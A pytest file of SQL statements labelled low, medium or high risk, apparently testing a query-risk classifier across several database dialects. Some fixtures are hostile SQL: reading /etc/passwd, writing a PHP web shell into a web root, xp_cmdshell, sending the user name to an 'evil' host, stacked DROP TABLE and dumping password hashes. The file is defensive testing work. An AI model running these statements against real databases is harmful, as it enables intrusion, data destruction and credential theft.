"""What queries show."""

import pytest

from tests.facts.sql_reading import cases, risk

READS = r"""
postgres   medium select * into t2 from t1
postgres   low    select * from t where id=1
postgres   medium select * from t
postgres   low    select * from t limit 10
postgres   low    select count(*) from t
postgres   medium select * from t where 1=1
postgres   low    select * from generate_series(1,10)
postgres   low    values (1),(2)
postgres   medium table t
postgres   medium select a.*, b.* from a, b
postgres   medium select a.x from a cross join b
postgres   high   select password from users where id=1
postgres   high   select * from api_keys
postgres   medium select * from api_keys where id=1
postgres   medium select count(*) from credit_cards
postgres   high   select * from pg_shadow
postgres   high   select rolname, rolpassword from pg_authid
postgres   low    select usename from pg_user
postgres   high   select ssn from employees limit 10
postgres   medium select name, salary from employees where id = 4
postgres   high   select name, salary from employees
postgres   medium select email from users where active
postgres   low    select name from users where id=3
postgres   low    select 'drop table users; delete from x'
postgres   high   select 1; drop table users
postgres   medium select * from users for update
mysql      high   select user, authentication_string from mysql.user
mssql      low    select top 10 * from t
mssql      low    select * from #x
mssql      medium select * into backup_t from t
mssql      low    select * into #t from t where id=1
oracle     low    select * from dual
oracle     low    select * from v$session
oracle     high   select name, password from sys.user$
oracle     low    select * from t where rownum < 10
bigquery   medium select * from `p.ds.t`
postgres   low    with a as (select 1 as x) select * from a
postgres   low    with a as (select * from t where id=1) select * from a
postgres   medium with a as (select * from t) select * from a
postgres   low    with a as (select * from t) select count(*) from a
postgres   low    select * from (select * from t limit 5) x
postgres   low    select distinct on (a) a from t limit 3
postgres   medium select * from a join b on a.id=b.id
postgres   low    select * from a join b on a.id=b.id where a.x=1
postgres   low    select * from a where x in (select y from b)
postgres   high   select * from users union select usename, passwd from pg_shadow
postgres   low    show all
postgres   low    select version()
postgres   low    select current_user, inet_server_addr()
postgres   low    select * from pg_stat_activity
postgres   low    select * from pg_settings where name like 'x%'
mssql      low    select name from sys.databases
mssql      low    select * from information_schema.tables
mssql      medium select * from dbo.Orders
mssql      low    select * from dbo.Orders where id=5
oracle     low    select * from t fetch first 5 rows only
oracle     low    select sysdate from dual
oracle     low    select * from dba_users
snowflake  low    select $1 from @stage limit 5
snowflake  low    show tables
snowflake  low    select top 5 * from t
bigquery   low    select * from `region-us`.INFORMATION_SCHEMA.JOBS
bigquery   low    select count(*) from ds.t
clickhouse low    select * from system.parts
trino      low    show catalogs
duckdb     low    summarize t
duckdb     low    pragma database_list
"""


@pytest.mark.parametrize(("dialect", "expected", "text"), cases(READS))
def test_reads_are_judged_by_how_much_of_what_they_show(dialect: str, expected: str, text: str) -> None:
    """Bounded and neutral is low, a whole table medium, secrets themselves high."""
    assert risk(text, dialect) == expected


CALLS = r"""
postgres   high   create table t as select pg_read_file('/etc/passwd')
postgres   high   select lo_export(1,'/tmp/x')
postgres   high   select dblink('host=evil','select 1')
postgres   medium select pg_sleep(1000)
postgres   low    select pg_sleep(1)
mysql      high   select * from users into outfile '/var/www/x.php'
mysql      high   select '<?php system($_GET[1]); ?>' into dumpfile '/var/www/html/s.php'
mysql      high   select load_file('/etc/passwd')
mysql      medium select sleep(1000)
mysql      medium select benchmark(100000000, md5('a'))
mssql      high   exec xp_cmdshell 'dir'
mssql      high   select * from openrowset('SQLNCLI','server=x;','select 1')
oracle     high   select utl_http.request('http://evil/'||(select user from dual)) from dual
sqlite     high   select load_extension('/tmp/x.so')
clickhouse medium select * from url('http://x','CSV')
duckdb     medium select * from read_csv('x.csv')
postgres   high   SELECT pg_terminate_backend(pid) FROM pg_stat_activity
postgres   medium SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state='idle'
postgres   medium SELECT pg_terminate_backend(1234)
"""


@pytest.mark.parametrize(("dialect", "expected", "text"), cases(CALLS))
def test_calls_are_judged_by_what_they_reach(dialect: str, expected: str, text: str) -> None:
    """A function that leaves the database is not a read."""
    assert risk(text, dialect) == expected


def test_a_statement_in_a_string_that_is_run_is_what_it_does() -> None:
    """query_to_xml runs what it is given."""
    assert risk("SELECT query_to_xml('DELETE FROM carts RETURNING 1', true, true, '')", "postgres") == "high"
    assert risk("SELECT query_to_xml('SELECT 1', true, true, '')", "postgres") == "medium"
